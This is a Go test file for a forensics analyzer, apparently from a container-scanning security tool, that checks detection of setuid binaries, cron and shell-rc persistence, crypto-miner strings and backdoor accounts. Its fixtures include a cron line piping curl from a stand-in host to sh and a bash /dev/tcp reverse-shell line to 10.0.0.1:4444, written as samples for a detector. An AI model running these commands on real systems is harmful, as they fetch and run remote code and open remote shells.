package forensics

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/trawlsec/trawl/internal/analyze"
	"github.com/trawlsec/trawl/pkg/inventory"
)

// info is the FileInfo of a tar entry, as the walker hands it.
func info(name string, mode int64, size int) fs.FileInfo {
	return (&tar.Header{Name: name, Mode: mode, Size: int64(size), Uid: 1000, Gid: 50, Typeflag: tar.TypeReg, ModTime: time.Unix(0, 0)}).FileInfo()
}

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestRequired(t *testing.T) {
	a := New()
	for _, tc := range []struct {
		path string
		mode int64
		want bool
	}{
		{"etc/passwd", 0o644, true},
		{"etc/shadow", 0o640, true},
		{"etc/group", 0o644, true},
		{"etc/cron.d/job", 0o644, true},
		{"etc/crontab", 0o644, true},
		{"var/spool/cron/crontabs/root", 0o600, true},
		{"home/bob/.ssh/authorized_keys", 0o600, true},
		{"etc/ld.so.preload", 0o644, true},
		{"etc/systemd/system/evil.service", 0o644, true},
		{"etc/init.d/ssh", 0o644, true},
		{"etc/profile.d/x.sh", 0o644, true},
		{"root/.bashrc", 0o644, true},
		{"home/bob/.profile", 0o644, true},
		{"home/bob/deep/.bashrc", 0o644, false},
		{"usr/bin/ls", 0o755, true},
		{"usr/bin/su", 0o4755, true},
		{"usr/bin/wall", 0o2755 &^ 0o111, true},
		{"opt/app/data.json", 0o666, true},
		{"tmp/scratch", 0o666, false},
		{"var/tmp/x", 0o666, false},
		{"usr/share/doc/README", 0o644, false},
		// Recoverable artifacts, by name.
		{"root/tools.tar.gz", 0o644, true},
		{"opt/x.ZIP", 0o644, true},
		{"root/.ssh/id_ed25519", 0o600, true},
		{"etc/ssl/private/server.key", 0o600, true},
		{"opt/install.sh", 0o644, true},
		{"usr/share/man/man1/ls.1.gz", 0o644, false},
		{"root/.ssh/id_ed25519.pub", 0o644, false},
		{"opt/app.jar", 0o644, false},
	} {
		if got := a.Required(tc.path, info(tc.path, tc.mode, 1)); got != tc.want {
			t.Errorf("Required(%s, %o) = %v, want %v", tc.path, tc.mode, got, tc.want)
		}
	}
	dir := (&tar.Header{Name: "etc/cron.d/", Mode: 0o777, Typeflag: tar.TypeDir}).FileInfo()
	if a.Required("etc/cron.d", dir) {
		t.Error("a directory is required")
	}
}

func TestAnalyze(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
	miner := append(append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 10)...), []byte("pool stratum+tcp://pool.example:3333")...)
	cron := []byte("# job\n* * * * * root curl -fsSL http://x.example/a | sh\n")
	rc := []byte("alias ll='ls -l'\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
	uid, gid := 1000, 50
	file := func(kind, p string, mode fs.FileMode, content []byte, detail string) inventory.ForensicFact {
		return inventory.ForensicFact{Kind: kind, FilePath: p, Mode: mode, UID: &uid, GID: &gid, Size: int64(len(content)), SHA256: sum(content), Detail: detail}
	}
	marker := func(f inventory.ForensicFact, class, name string, line int) inventory.ForensicFact {
		f.Kind, f.Detail, f.Match, f.Line = inventory.FactMarker, class, name, line
		return f
	}
	for _, tc := range []struct {
		name    string
		path    string
		mode    int64
		content []byte
		want    []inventory.ForensicFact
	}{
		{
			name: "setuid ELF", path: "usr/local/bin/x", mode: 0o4755, content: elf,
			want: []inventory.ForensicFact{
				file(inventory.FactSpecialMode, "usr/local/bin/x", 0o755|fs.ModeSetuid, elf, ""),
				file(inventory.FactExecutable, "usr/local/bin/x", 0o755|fs.ModeSetuid, elf, "elf"),
			},
		},
		{
			name: "ELF without an execute bit is not read, but if handed over is an executable", path: "usr/lib/x.so", mode: 0o644, content: elf,
			want: []inventory.ForensicFact{file(inventory.FactExecutable, "usr/lib/x.so", 0o644, elf, "elf")},
		},
		{
			name: "world-writable script", path: "opt/run.sh", mode: 0o777, content: []byte("#!/bin/sh\necho hi\n"),
			want: []inventory.ForensicFact{
				file(inventory.FactArtifact, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), "script"),
				file(inventory.FactWorldWritable, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), ""),
				file(inventory.FactExecutable, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), "script"),
			},
		},
		{
			name: "miner string in a binary", path: "usr/bin/kworker", mode: 0o755, content: miner,
			want: []inventory.ForensicFact{
				file(inventory.FactExecutable, "usr/bin/kworker", 0o755, miner, "elf"),
				marker(file("", "usr/bin/kworker", 0o755, miner, ""), inventory.MarkerMiner, "stratum-url", 0),
			},
		},
		{
			name: "cron entry piping a download to a shell", path: "etc/cron.d/job", mode: 0o644, content: cron,
			want: []inventory.ForensicFact{
				file(inventory.FactPersistence, "etc/cron.d/job", 0o644, cron, inventory.PersistCron),
				marker(file("", "etc/cron.d/job", 0o644, cron, ""), inventory.MarkerDownloadExec, "fetch-pipe-shell", 2),
			},
		},
		{
			name: "reverse shell in a shell rc file", path: "root/.bashrc", mode: 0o644, content: rc,
			want: []inventory.ForensicFact{
				file(inventory.FactPersistence, "root/.bashrc", 0o644, rc, inventory.PersistShellRC),
				marker(file("", "root/.bashrc", 0o644, rc, ""), inventory.MarkerReverseShell, "shell-dev-tcp", 2),
				marker(file("", "root/.bashrc", 0o644, rc, ""), inventory.MarkerReverseShell, "dev-tcp-redirect", 2),
			},
		},
		{
			// curl|sh outside cron (an install script) is not a marker:
			// the download-exec marker is scoped to cron files.
			name: "curl pipe sh in an executable script", path: "opt/install.sh", mode: 0o755, content: []byte("curl http://x | sh\n"),
			want: []inventory.ForensicFact{
				file(inventory.FactArtifact, "opt/install.sh", 0o755, []byte("curl http://x | sh\n"), "script"),
				file(inventory.FactExecutable, "opt/install.sh", 0o755, []byte("curl http://x | sh\n"), "script"),
			},
		},
		{
			name: "an archive, by name, hashed", path: "root/tools.tgz", mode: 0o644, content: []byte("\x1f\x8b archive"),
			want: []inventory.ForensicFact{file(inventory.FactArtifact, "root/tools.tgz", 0o644, []byte("\x1f\x8b archive"), "archive")},
		},
		{
			// bash itself names /dev/tcp/ in its binary: reverse-shell
			// markers are for scripts only.
			name: "dev tcp in an ELF binary", path: "usr/bin/bash", mode: 0o755, content: append(elf, []byte(" >& /dev/tcp/host/80")...),
			want: []inventory.ForensicFact{file(inventory.FactExecutable, "usr/bin/bash", 0o755, append(elf, []byte(" >& /dev/tcp/host/80")...), "elf")},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := New().Analyze(context.Background(), analyze.Input{Path: tc.path, Info: info(tc.path, tc.mode, len(tc.content)), Content: tc.content, Size: int64(len(tc.content))})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, res.Forensics); diff != "" {
				t.Errorf("facts (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAccounts(t *testing.T) {
	for _, tc := range []struct {
		path, content string
		want          []inventory.Account
		warnings      int
	}{
		{
			path:    "etc/passwd",
			content: "root:x:0:0:root:/root:/bin/bash\n# comment\nbackdoor:x:0:0::/root:/bin/sh\nbroken:x:zero:0::/:/bin/sh\nshort:x\n",
			want: []inventory.Account{
				{Name: "root", Home: "/root", Shell: "/bin/bash"},
				{Name: "backdoor", Home: "/root", Shell: "/bin/sh"},
			},
			warnings: 1,
		},
		{
			path:    "etc/shadow",
			content: "root:*:19000:0:99999:7:::\nbob::19000::::::\nalice:!$6$salt$hash:1::::::\ncarol:$6$salt$hash:1::::::\n",
			want: []inventory.Account{
				{Name: "root", Password: inventory.PasswordLocked},
				{Name: "bob", Password: inventory.PasswordEmpty},
				{Name: "alice", Password: inventory.PasswordLocked},
				{Name: "carol", Password: inventory.PasswordHash},
			},
		},
		{
			path:    "etc/group",
			content: "root:x:0:\nsudo:x:27:bob,alice\n",
			want: []inventory.Account{
				{Name: "root"},
				{Name: "sudo", GID: 27, Members: []string{"bob", "alice"}},
			},
		},
	} {
		t.Run(tc.path, func(t *testing.T) {
			res, err := New().Analyze(context.Background(), analyze.Input{Path: tc.path, Info: info(tc.path, 0o644, len(tc.content)), Content: []byte(tc.content), Size: int64(len(tc.content))})
			if err != nil {
				t.Fatal(err)
			}
			var got []inventory.Account
			for _, f := range res.Forensics {
				if f.Account == nil || f.FilePath != tc.path || f.SHA256 != "" {
					t.Errorf("fact %+v", f)
					continue
				}
				got = append(got, *f.Account)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("accounts (-want +got):\n%s", diff)
			}
			if len(res.Warnings) != tc.warnings {
				t.Errorf("warnings = %+v, want %d", res.Warnings, tc.warnings)
			}
			if strings.Contains(string(mustJSON(t, res)), "$6$") {
				t.Error("a password hash is kept")
			}
		})
	}
}

// TestLargeExecutableThroughReaderAt: an executable over the walker's
// in-memory cap comes as a ReaderAt; it is hashed whole and only its head
// is searched for markers.
func TestLargeExecutableThroughReaderAt(t *testing.T) {
	big := make([]byte, MaxContent+100)
	copy(big, "\x7fELF")
	copy(big[MaxContent+10:], "stratum+tcp://late") // past the content cap: not searched
	res, err := New().Analyze(context.Background(), analyze.Input{Path: "opt/big", Info: info("opt/big", 0o755, len(big)), ReaderAt: bytes.NewReader(big), Size: int64(len(big))})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Forensics) != 1 || res.Forensics[0].Kind != inventory.FactExecutable || res.Forensics[0].Detail != "elf" || res.Forensics[0].SHA256 != sum(big) || res.Forensics[0].Size != int64(len(big)) {
		t.Errorf("facts = %+v", res.Forensics)
	}
}

func TestMarkersParse(t *testing.T) {
	if len(builtinMarkers) == 0 {
		t.Fatal("no markers")
	}
	classes := map[string]bool{inventory.MarkerMiner: true, inventory.MarkerReverseShell: true, inventory.MarkerDownloadExec: true}
	for _, m := range builtinMarkers {
		if !classes[m.class] {
			t.Errorf("marker %s: class %q is not an inventory.Marker* constant", m.name, m.class)
		}
	}
	for _, bad := range []string{"miner\tany\tx", "miner\tsomewhere\tx\ty", "miner\tany\tx\t("} {
		if _, err := parseMarkers(bad); err == nil {
			t.Errorf("parseMarkers(%q) accepted", bad)
		}
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestEntries: device nodes outside dev/ and world-writable directories
// without the sticky bit outside the temporary directories are facts;
// dev/ nodes, sticky or tmp-like directories, private directories and
// FIFOs are not.
func TestEntries(t *testing.T) {
	entry := func(name string, typ byte, mode int64) fs.FileInfo {
		return (&tar.Header{Name: name, Mode: mode, Typeflag: typ, Uid: 0, Gid: 6, Devmajor: 8, Devminor: 1}).FileInfo()
	}
	tests := []struct {
		path      string
		info      fs.FileInfo
		kind, det string
	}{
		{"usr/lib/sda", entry("usr/lib/sda", tar.TypeBlock, 0o660), inventory.FactDevice, "block 8:1"},
		{"root/mem", entry("root/mem", tar.TypeChar, 0o600), inventory.FactDevice, "char 8:1"},
		{"dev/sda", entry("dev/sda", tar.TypeBlock, 0o660), "", ""},
		{"dev/net/tun", entry("dev/net/tun", tar.TypeChar, 0o666), "", ""},
		{"srv/drop", entry("srv/drop/", tar.TypeDir, 0o777), inventory.FactWorldWritableDir, ""},
		{"tmp", entry("tmp/", tar.TypeDir, 0o777), inventory.FactWorldWritableDir, ""}, // tmp itself needs the sticky bit
		{"var/lock", entry("var/lock/", tar.TypeDir, 0o1777), "", ""},
		{"tmp/x", entry("tmp/x/", tar.TypeDir, 0o777), "", ""},
		{"var/tmp/y", entry("var/tmp/y/", tar.TypeDir, 0o777), "", ""},
		{"srv/ok", entry("srv/ok/", tar.TypeDir, 0o775), "", ""},
		{"srv/fifo", entry("srv/fifo", tar.TypeFifo, 0o666), "", ""},
	}
	a := New()
	for _, tc := range tests {
		if got := a.RequiredEntry(tc.path, tc.info); got != (tc.kind != "") {
			t.Errorf("RequiredEntry(%s) = %v", tc.path, got)
		}
		res, err := a.AnalyzeEntry(context.Background(), tc.path, tc.info)
		if err != nil {
			t.Fatal(err)
		}
		var kind, det string
		if res != nil && len(res.Forensics) == 1 {
			f := res.Forensics[0]
			kind, det = f.Kind, f.Detail
			if f.FilePath != tc.path || f.Mode != tc.info.Mode() || f.UID == nil || *f.GID != 6 {
				t.Errorf("%s: fact %+v", tc.path, f)
			}
		}
		if kind != tc.kind || det != tc.det {
			t.Errorf("%s: kind %q detail %q, want %q %q", tc.path, kind, det, tc.kind, tc.det)
		}
	}
}

// TestPackageSizes: installed sizes of dpkg (KiB) and apk (bytes)
// databases become facts without a hash; packages without one are left
// out.
func TestPackageSizes(t *testing.T) {
	tests := []struct {
		path, content string
		want          map[string]int64
	}{
		{"var/lib/dpkg/status", "Package: curl\nStatus: install ok installed\nInstalled-Size: 500\n\nPackage: nosize\n\nPackage: gdb\nInstalled-Size: 10\n", map[string]int64{"curl": 500 << 10, "gdb": 10 << 10}},
		{"lib/apk/db/installed", "P:curl\nV:8.5.0-r0\nI:4096\n\nP:musl\nV:1\n", map[string]int64{"curl": 4096}},
		{"etc/status", "Package: curl\nInstalled-Size: 1\n", map[string]int64{}},
	}
	a := New()
	for _, tc := range tests {
		if a.Required(tc.path, info(tc.path, 0o644, len(tc.content))) != (len(tc.want) > 0) {
			t.Errorf("Required(%s)", tc.path)
		}
		res, err := a.Analyze(context.Background(), analyze.Input{Path: tc.path, Info: info(tc.path, 0o644, len(tc.content)), Content: []byte(tc.content)})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]int64{}
		for _, f := range res.Forensics {
			if f.Kind == inventory.FactPackageSize {
				got[f.Detail] = f.Size
				if f.SHA256 != "" {
					t.Errorf("%s: hashed", tc.path)
				}
			}
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.path, diff)
		}
	}
}
